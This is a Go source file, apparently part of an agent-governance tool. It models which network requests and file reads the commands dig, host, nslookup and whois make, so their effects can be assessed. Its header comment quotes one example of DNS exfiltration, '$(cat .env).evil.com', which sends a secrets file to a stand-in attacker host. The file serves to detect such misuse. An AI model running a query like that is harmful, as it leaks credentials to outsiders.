package programs

import (
	"strings"

	"github.com/agentgov/governance/internal/shell"
)

// Lookups: dig, host and nslookup ask a DNS server, whois a registry.
// The names queried, and every other word, go out in the request: one
// computed at run time ($(cat .env).evil.com) makes the call more than a
// lookup (see probe). A batch of queries read from a file or from
// standard input (dig -f, nslookup with no name) sends text the command
// line does not show.

// dig: @server picks the server; +options (+short, +trace) are operands
// to the model, and +tls-ca, +tls-certfile and +tls-keyfile name files
// it reads; -k reads a TSIG key file.
var digProgram = &Program{Names: []string{"dig"}, Node: Node{Opts: `
-4
-6
-b=ADDRESS
-c=CLASS
-f=FILE      read
-k=KEYFILE   read
-m
-p=PORT
-q=NAME
-r
-t=TYPE
-u
-x=ADDRESS
-y=KEY
-h     help
-v     help
`, Effects: func(c *Call, fx *Effects) {
	server := ""
	for _, a := range c.Args() {
		v := a.Value
		switch {
		case strings.HasPrefix(v, "@"):
			server = v[1:]
		case strings.HasPrefix(v, "+"):
			if key, file, ok := strings.Cut(v[1:], "="); ok && strings.HasPrefix(strings.TrimPrefix(key, "no"), "tls-") && file != "" {
				fx.Read(shell.Arg{Value: file, Dynamic: a.Dynamic, Glob: a.Glob})
			}
		}
	}
	if c.Has("-f") {
		fx.Unknown("dig -f sends the queries listed in a file")
	}
	fx.Network(server, requestWords(c)...)
}}}

// host NAME [SERVER].
var hostProgram = &Program{Names: []string{"host"}, Node: Node{Opts: `
-4
-6
-A
-a
-C
-c=CLASS
-d
-l
-m=FLAG
-N=NDOTS
-p=PORT
-R=NUMBER
-r
-s
-T
-t=TYPE
-U
-v
-W=SECONDS
-w
-V     help
`, Effects: func(c *Call, fx *Effects) {
	fx.Network(c.Operand(1), requestWords(c)...)
}}}

// nslookup [-option...] [NAME | -] [SERVER]: its options are settings
// (-type=mx, -port=53, -debug) in any abbreviation, which the model
// reads as words. With no name, or -, it reads its queries from standard
// input.
var nslookupProgram = &Program{Names: []string{"nslookup"}, NoOptions: true, Node: Node{Effects: func(c *Call, fx *Effects) {
	var names []shell.Arg
	for _, a := range c.Args() {
		if a.Dynamic || !strings.HasPrefix(a.Value, "-") || a.Value == "-" {
			names = append(names, a)
		}
	}
	server := ""
	if len(names) > 1 {
		server = names[1].Value
	}
	if len(names) == 0 || names[0].Value == "-" {
		fx.Unknown("nslookup reads its queries from standard input")
	}
	fx.Network(server, c.Args()...)
}}}

// whois: the options of Linux whois (and the RIPE server's flags it
// passes on) and of macOS's. -h picks the server.
var whoisProgram = &Program{Names: []string{"whois"}, Node: Node{Opts: `
-A
-a
-B
-b
-c[=COUNTRY]
-d
-f
-G
-g=SOURCE
-H
-h --host=HOST
-I
-i=ATTRIBUTES
-K
-k
-L
-l
-M
-m
-p --port=PORT
-Q
-q=KEYWORD
-R
-r
-S
-s=SOURCES
-T=TYPES
-t=TYPE
-v=TYPE
-x
--no-recursion
--verbose
--help      help
--version   help
`, Effects: func(c *Call, fx *Effects) {
	host, _ := c.Value("-h")
	fx.Network(host, requestWords(c)...)
}}}
